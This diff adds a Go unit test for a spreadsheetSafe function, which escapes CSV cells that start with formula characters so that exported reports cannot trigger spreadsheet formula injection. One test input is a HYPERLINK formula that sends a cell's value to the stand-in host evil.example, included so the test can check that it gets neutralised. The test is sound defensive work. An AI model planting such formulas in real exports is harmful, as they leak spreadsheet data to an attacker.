@@ -57,3 +57,11 @@ func TestDetailedReportCSV(t *testing.T) {
 		t.Errorf("%d CSV lines for %d items", len(recs)-1, len(r.Items()))
 	}
 }
+
+func TestSpreadsheetSafe(t *testing.T) {
+	got := spreadsheetSafe([]string{`=HYPERLINK("https://evil.example/?"&B2,"open")`, "+1", "-cmd", "@SUM(A1)", "\tx", "\rx", "2026-07-10 10:00", "40000", "", "重大な事故", "a=b"})
+	want := []string{`'=HYPERLINK("https://evil.example/?"&B2,"open")`, "'+1", "'-cmd", "'@SUM(A1)", "'\tx", "'\rx", "2026-07-10 10:00", "40000", "", "重大な事故", "a=b"}
+	if d := cmp.Diff(want, got); d != "" {
+		t.Errorf("spreadsheetSafe (-want +got):\n%s", d)
+	}
+}
